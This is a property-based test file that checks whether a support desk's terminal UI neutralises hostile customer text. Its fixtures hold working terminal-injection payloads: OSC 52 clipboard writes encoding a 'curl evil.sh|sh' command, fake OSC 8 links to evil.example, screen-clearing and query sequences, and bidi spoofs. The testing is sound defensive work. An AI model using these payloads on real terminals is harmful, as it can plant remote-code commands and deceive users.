"""No mention takes over the terminal: hostile text is shown, never obeyed, widths exact.

Property-based (hypothesis) over the render boundary (``tui/safe_text.py``: ``clean``,
``clean_multiline``, ``safe_text``, ``fit``), over the case pane as the desk draws it
(``tui.timeline.render_detail`` with every untrusted field hostile: customer, author and
display names, text, platform, language, tags, agents, notes, delivery errors, URLs),
rendered to the bytes a terminal would receive; and through the running desk (DeskApp +
Pilot on a real store): every segment Textual would paint is checked.

"Obeyed" means any of: C0/C1 controls (ESC and the 8-bit CSI/OSC/DCS introducers
included), lone surrogates, bidi embeddings/overrides/isolates/marks, invisible
characters that hide text (zero-width space, word joiner, BOM, soft hyphen, invisible
operators), a zero-width joiner outside an emoji sequence, a Rich style or hyperlink
born of customer text. The only escape sequences allowed in the terminal byte stream
are the SGR colour/style sequences Rich itself writes.
"""

from __future__ import annotations

import io
import os
import random
import re
import unicodedata
from datetime import UTC, datetime, timedelta

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from rich.cells import cell_len
from rich.console import Console

from store.api import CaseDetail
from store.config import Config
from store.records import Case, Event, Mention, OutboxItem, Status
from tui.safe_text import clean, clean_multiline, fit, safe_text

# examples per property; scripts/soak.py raises it
EXAMPLES = int(os.environ.get("HEATDESK_FUZZ_EXAMPLES", "300"))

BIDI = frozenset("\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
HIDDEN = frozenset("\u00ad\u200b\u2060\u2061\u2062\u2063\u2064\ufeff\u115f\u1160\u3164\uffa0")

# Pieces a hostile post is built from.
ESCAPES = [
    "\x1b[2J\x1b[H",                                   # clear screen, cursor home
    "\x1b[31;1;5m", "\x1b[0m", "\x1b[?1049h",          # SGR, alternate screen
    "\x1b[6n", "\x1b[21t", "\x1b[>c",                  # terminal queries (answerback)
    "\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07",              # OSC 52: write the clipboard (BEL)
    "\x1b]52;c;Y3VybCBldmlsLnNofHNo\x1b\\",            # ... (ST)
    "\x1b]8;;https://evil.example/\x1b\\acme.com\x1b]8;;\x1b\\",  # OSC 8: fake link
    "\x1b]0;pwned\x07", "\x1b]1337;File=inline=1:AAAA\x07",
    "\x1bP+q544e\x1b\\", "\x1bP$q\"p\x1b\\",           # DCS (XTGETTCAP, DECRQSS)
    "\x1b_apc\x1b\\", "\x1b^pm\x1b\\", "\x1bXsos\x1b\\",
    "\x1bc", "\x1b7", "\x1b8", "\x1b(0", "\x1b#8",    # RIS, save/restore, charset, DECALN
    "\x9b31m", "\x9d52;c;eA==\x9c", "\x90q\x9c", "\x9e\x9f\x85\x84",  # 8-bit C1 forms
    "\x1b]52;c;unterminated", "\x1b[", "\x1b", "\x9b", "\x1b]",
    "\x00", "\x07", "\x08\x08\x08", "\x7f", "\r", "\r\n", "\n", "\t", "\x0b", "\x0c",
]
UNICODE = [
    "\u202eevil\u202c.exe", "\u2066\u2067\u2068\u2069", "\u200e\u200f\u061c",
    "\u202a\u202b\u202d", "ref\u200bund", "\u2060\ufeff\u00ad", "\u2061\u2062\u2063\u2064",
    "\u3164\u115f\u1160\uffa0",                        # Hangul fillers: invisible names
    "\U0001f469\u200d\U0001f469\u200d\U0001f467",        # 👩‍👩‍👧 family (ZWJ)
    "\U0001f3f3\ufe0f\u200d\U0001f308",                  # 🏳️‍🌈
    "\U0001f3f4\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f",  # 🏴 Scotland
    "\U000e0041\U000e0042",                              # tag smuggling
    "a\u200db", "\u200d", "\u200c", "😡🔥", "e\u0301\u0301\u0301", "\u0e01\u0e34\u0e4a",
    "注文が届きません", "退款！！", "환불", "مرحبا", "שלום", "日本語テキスト" * 3,
    "\ud800", "\udfff", "\ud83d",                        # lone surrogates
    "\u2028\u2029\x85",                                  # Unicode line breaks
]
MARKUP = [
    "[bold red]Evil[/]", "[link=https://evil.example]click[/link]", "[/]", "[", "]",
    "\\[b]x[/b]", ":smile:", "[@click=app.quit]quit[/]", "[reverse]", "{{x}}", "%s%n",
]
PIECE = st.one_of(
    st.sampled_from(ESCAPES), st.sampled_from(UNICODE), st.sampled_from(MARKUP),
    st.characters(),                                      # anything at all, surrogates too
    st.characters(min_codepoint=0x80, max_codepoint=0x9f),  # C1
    st.text(max_size=8),
)
HOSTILE = st.lists(PIECE, max_size=30).map("".join)
SGR = re.compile(r"\x1b\[[0-9;]*m")  # the only sequences Rich itself may write


FLAG = re.compile("\U0001f3f4[\U000e0020-\U000e007e]+\U000e007f")  # 🏴 + tag sequence


def unsafe(ch: str) -> bool:
    """A character a terminal would obey, or that hides or reorders what is shown."""
    return unicodedata.category(ch) in ("Cc", "Cs") or ch in BIDI or ch in HIDDEN or (
        "\U000e0000" <= ch <= "\U000e007f")


def assert_safe_line(text: str, *, newlines: bool = False) -> None:
    # tag characters are legitimate only inside a flag's tag sequence
    bad = [ch for ch in FLAG.sub("", text) if unsafe(ch) and not (newlines and ch == "\n")]
    assert not bad, f"unsafe characters survived: {[hex(ord(c)) for c in bad]} in {text!r}"
    for i, ch in enumerate(text):  # a joiner only inside an emoji sequence
        if ch == "\u200d":
            assert 0 < i < len(text) - 1, f"stray ZWJ in {text!r}"
            assert not text[i - 1].isascii() and not text[i + 1].isascii(), text


def terminal_bytes(renderable, width: int) -> str:
    """What Rich would write to a truecolor terminal for ``renderable``."""
    console = Console(width=width, file=io.StringIO(), force_terminal=True,
                      color_system="truecolor", legacy_windows=False, emoji=False)
    console.print(renderable)
    return console.file.getvalue()


def assert_terminal_safe(out: str) -> None:
    """Only Rich's own SGR sequences; nothing else a terminal would act on."""
    rest = SGR.sub("", out)
    assert_safe_line(rest, newlines=True)


# -- the render boundary ------------------------------------------------------------------


@settings(max_examples=EXAMPLES, deadline=None)
@given(HOSTILE)
def test_clean_leaves_nothing_a_terminal_obeys(raw):
    out = clean(raw)
    assert_safe_line(out)
    assert "\n" not in out and "\t" not in out and "\r" not in out
    assert clean(out) == out
    multi = clean_multiline(raw)
    assert_safe_line(multi, newlines=True)
    assert clean_multiline(multi) == multi


@settings(max_examples=EXAMPLES, deadline=None)
@given(HOSTILE, st.integers(min_value=0, max_value=160), st.booleans())
def test_fit_is_exactly_the_width_in_cells(raw, width, ellipsis):
    out = fit(raw, width, ellipsis=ellipsis)
    assert cell_len(out) == width
    assert_safe_line(out)


@settings(max_examples=EXAMPLES, deadline=None)
@given(HOSTILE, st.integers(min_value=1, max_value=120), st.booleans())
def test_safe_text_reaches_the_terminal_as_plain_text(raw, width, multiline):
    text = safe_text(raw, "bold", multiline=multiline)
    assert text.plain == (clean_multiline(raw) if multiline else clean(raw))
    assert not text.spans  # markup in the input made no styles
    out = terminal_bytes(text, width)
    assert_terminal_safe(out)
    assert "\x1b]8" not in out  # the text may name a URL; no hyperlink is ever made
    for marker in ("[bold red]Evil[/]", "[link=https://evil.example]click[/link]"):
        if marker in raw and marker in clean(raw):
            assert marker in text.plain  # shown literally, not applied


def test_huge_hostile_strings_are_cleaned_whole():
    rng = random.Random(7)
    pieces = ESCAPES + UNICODE + MARKUP
    raw = "".join(rng.choice(pieces) for _ in range(40_000))  # ~400k characters
    out = clean(raw)
    assert_safe_line(out)
    multi = clean_multiline(raw)
    assert_safe_line(multi, newlines=True)
    for width in (0, 1, 2, 79, 80, 1000):
        assert cell_len(fit(raw, width)) == width
    # an unterminated string sequence swallows only up to the next ESC, never the rest
    assert clean("\x1b]52;c;" + "A" * 200_000 + "\x1b[0mvisible").endswith("visible")
    assert clean("a" * 1_000_000) == "a" * 1_000_000


# -- the case pane, as the desk draws it --------------------------------------------------

NOW = datetime(2026, 11, 22, 12, 0, tzinfo=UTC)
T = NOW - timedelta(hours=1)


@st.composite
def hostile_detail(draw) -> CaseDetail:
    h = lambda: draw(HOSTILE)
    case = Case(
        id=7, platform=h(), customer_id=1, customer=h(), status=draw(st.sampled_from(Status)),
        opened_at=T, updated_at=T, escalation_tier=draw(st.integers(0, 2)),
        phone_callback=draw(st.booleans()), assignee=draw(st.none() | HOSTILE),
        waiting_since=T, tags=draw(st.lists(HOSTILE, max_size=3)), last_text=h(),
        # computed by the store's rules, not taken from outside:
        heat_parts={"negativity": 30.0, "reach": 2.5},
        suggestion=draw(st.sampled_from([None, "dm", "phone", "escalate"])),
        promised_by=draw(st.none() | st.just(NOW + timedelta(hours=2))),
    )
    mentions = [
        Mention(platform=h(), external_id=str(i), author=h() or "a", text=h(), created_at=T,
                author_name=draw(st.none() | HOSTILE), followers=draw(st.integers(0, 10**7)),
                url=h(), lang=draw(st.none() | HOSTILE), sentiment=-0.5,
                deleted=draw(st.booleans()), edited=draw(st.booleans()), id=i, case_id=7)
        for i in range(draw(st.integers(1, 3)))
    ]
    kinds = ["mention", "reply", "dm", "note", "status", "claim", "tag", "escalate", "undo",
             "offline", "delivered", "delivery_failed", "qa", "link", "deleted"]
    events, outbox = [], []
    for i in range(draw(st.integers(0, 6))):
        kind = draw(st.sampled_from(kinds))
        data = {"channel": draw(st.sampled_from(["phone", "email"]))} \
            if kind == "offline" else {}  # the store accepts only these two
        events.append(Event(100 + i, 7, T, kind, draw(st.none() | HOSTILE), h(), data,
                            mentions[0].id if kind == "mention" else None))
        if kind in ("reply", "dm"):
            outbox.append(OutboxItem(
                id=i, case_id=7, event_id=100 + i, kind=kind, platform=case.platform,
                text=h(), idempotency_key="k", not_before=T,
                state=draw(st.sampled_from(["pending", "sending", "delivered", "failed",
                                            "cancelled"])),
                remote_url=h(), error=h()))
    earlier = [Case(id=3, platform=h(), customer_id=1, customer=h(), status=Status.CLOSED,
                    opened_at=T, updated_at=T, tags=draw(st.lists(HOSTILE, max_size=2)))
               ] if draw(st.booleans()) else []
    qa = [{"agent": h(), "score": 3, "note": h(), "at": None}] if draw(st.booleans()) else []
    return CaseDetail(case, mentions, events, earlier, qa, outbox)


@settings(max_examples=EXAMPLES, deadline=None,
          suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
@given(hostile_detail(), st.integers(min_value=20, max_value=200),
       st.lists(st.tuples(HOSTILE, HOSTILE), max_size=2))
def test_case_pane_never_lets_hostile_fields_through(detail, width, presence):
    from tui.timeline import render_detail

    renderable = render_detail(detail, 55.0, detail.case.heat_parts, NOW, Config(),
                               presence, "alice")
    out = terminal_bytes(renderable, width)
    assert_terminal_safe(out)
    console = Console(width=width, file=io.StringIO(), force_terminal=True, emoji=False)
    for segment in console.render(renderable):
        assert segment.style is None or segment.style.link is None  # no links from text
        assert segment.style is None or not segment.style.meta     # no @click actions


def test_case_pane_shows_markup_literally():
    from tui.timeline import render_detail

    detail = CaseDetail(
        Case(id=1, platform="mastodon", customer_id=1, customer="[b]cust[/b]",
             status=Status.NEW, opened_at=T, updated_at=T, waiting_since=T,
             tags=["[i]tag[/i]"]),
        [Mention(platform="mastodon", external_id="1", author="[red]author[/red]",
                 author_name="[link=https://evil.example]Name[/link]",
                 text="[bold red]Evil[/] \x1b]52;c;eA==\x07 :smile:", created_at=T,
                 lang="\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07", id=1, case_id=1)],
        [Event(1, 1, T, "mention", "a", "", {}, 1),
         Event(2, 1, T, "note", "[@click=app.quit]agent[/]", "[reverse]note[/]", {}, None)],
        [], [], [])
    renderable = render_detail(detail, 10.0, {}, NOW, Config(), [], None)
    out = terminal_bytes(renderable, 200)
    assert_terminal_safe(out)
    shown = SGR.sub("", out)
    for literal in ("[b]cust[/b]", "[i]tag[/i]", "[red]author[/red]", "[bold red]Evil[/]",
                    ":smile:", "[@click=app.quit]agent[/]", "[reverse]note[/]",
                    "[link=https://evil.example]Name[/link]"):
        assert literal in shown, literal
    assert "😄" not in shown


# -- through the running desk -------------------------------------------------------------

# What can reach the store: the pipeline turns lone surrogates into U+FFFD before writing.
STORABLE = [p for p in ESCAPES + UNICODE + MARKUP
            if not any("\ud800" <= ch <= "\udfff" for ch in p)]


def hostile_corpus(n: int, seed: int) -> list[str]:
    rng = random.Random(seed)
    pieces = STORABLE
    out = []
    for i in range(n):
        words = [rng.choice(pieces) for _ in range(rng.randint(1, 12))]
        out.append(f"@acme {i} refund " + "".join(words))
    return out


def assert_screen_safe(app) -> str:
    lines = []
    for strip in app.screen._compositor.render_strips():
        line = []
        for segment in strip:
            assert segment.control is None
            assert_safe_line(segment.text)
            if segment.style is not None and segment.style.link:
                assert "evil" not in segment.style.link
            line.append(segment.text)
        lines.append("".join(line))
    return "\n".join(lines)


@pytest.mark.parametrize("size", [(200, 50), (80, 24)])
async def test_the_desk_shows_hostile_mentions_without_obeying_them(tmp_path, size):
    from textual.widgets import TextArea

    from store import open_store
    from store.rules.sentiment import score
    from tests.desk_helpers import desk_config, desk_of, make_app, wait_screen
    from tui.composer import Composer

    store = await open_store(str(tmp_path / "desk.db"), desk_config())
    texts = hostile_corpus(30, seed=size[0])
    pieces = STORABLE
    rng = random.Random(size[1])
    mentions = []
    for i, text in enumerate(texts):
        platform = rng.choice(["mastodon", "bluesky", "webhook", "reddit", "x\x1b[2Jy"])
        mentions.append(Mention(
            platform=platform, external_id=f"h{i}",
            author=f"user{i}" + rng.choice(pieces) + "@example.social",
            author_name=rng.choice(pieces) + " [bold red]Evil[/] " + rng.choice(pieces),
            text=text, created_at=T + timedelta(minutes=i), followers=rng.randint(0, 10**6),
            lang=rng.choice([None, "en", "\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07",
                             "\u202ear", "[bold]xx[/]"]),
            sentiment=score(text), source="demo"))
    mentions.append(Mention(platform="mastodon", external_id="literal",
                            author="lit@example.social", author_name="Lit",
                            text="[b]LITERAL[/b] and [link=https://evil.example]x[/link]",
                            created_at=T, sentiment=-0.9, source="demo"))
    await store.ingest(mentions)
    case_ids = sorted({(await store.mention(m.platform, m.external_id)).case_id
                       for m in mentions})
    literal_case = (await store.mention("mastodon", "literal")).case_id
    await store.tag(literal_case, "alice", "\x1b]52;c;eA==\x07[b]t[/b]")
    await store.note(literal_case, "\u202e[i]bob[/i]", "note \x1b[2J\x9b31m [u]x[/u]")
    app = make_app(store=store)
    try:
        async with app.run_test(size=size) as pilot:
            desk = await desk_of(pilot)
            screens = 0
            for case_id in case_ids[:12] + [literal_case]:
                assert desk.select_case(case_id)
                await desk.settle()
                await pilot.press("enter")
                await desk.settle()
                await pilot.pause()
                shown = assert_screen_safe(app)
                screens += 1
                if case_id == literal_case and size[0] >= 200:
                    assert "[b]LITERAL[/b]" in shown
                    assert "[link=https://evil.example]x[/link]" in shown
                if desk.narrow:
                    await pilot.press("escape")
                    await pilot.pause()
                    assert_screen_safe(app)
            for _ in range(3):  # scroll the whole queue through the screen
                await pilot.press("G")
                await pilot.pause()
                assert_screen_safe(app)
                await pilot.press("g")
                await pilot.pause()
                assert_screen_safe(app)
            # the composer shows the case's platform and last text too
            odd = [c.id for c in await store.open_cases() if "\x1b" in c.platform]
            assert odd
            assert desk.select_case(odd[0])
            await desk.settle()
            await pilot.press("r")
            composer = await wait_screen(pilot, Composer)
            composer.query_one(TextArea).text = "x" * 600  # over every platform's limit
            await pilot.pause()
            assert_screen_safe(app)
            await pilot.press("ctrl+s")  # refused as too long: a notification names the platform
            await pilot.pause(0.3)
            assert_screen_safe(app)
            await pilot.press("escape")
            await pilot.pause()
            assert screens == len(case_ids[:12]) + 1
            # the wallboard names platforms, tags and agents: untrusted labels too
            await pilot.press("w")
            await pilot.pause(1.0)
            assert_screen_safe(app)
    finally:
        await store.close()


def test_case_list_and_show_print_hostile_fields_inert(tmp_path, capsys):
    import asyncio

    from store import open_store
    from tui.cli import main

    db = str(tmp_path / "desk.db")
    config = tmp_path / "heatdesk.toml"
    config.write_text("[desk]\nundo_seconds = 0\n", encoding="utf-8")

    async def fill() -> None:
        store = await open_store(db, Config())
        await store.ingest([Mention(
            platform="x\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07y", external_id=f"p{i}",
            author=f"\u202eevil{i}\x1b[2J", author_name="[b]n[/b]",
            text=text, created_at=T, lang="\x1b]0;pwned\x07", sentiment=-0.6)
            for i, text in enumerate(hostile_corpus(10, seed=3))])
        await store.close()

    asyncio.run(fill())
    assert main(["--db", db, "--config", str(config), "case", "list"]) == 0
    listed = capsys.readouterr().out
    assert listed.count("\n") == 10
    assert_safe_line(listed, newlines=True)
    for case_id in range(1, 11):
        assert main(["--db", db, "--config", str(config), "case", "show", str(case_id)]) == 0
        assert_safe_line(capsys.readouterr().out, newlines=True)
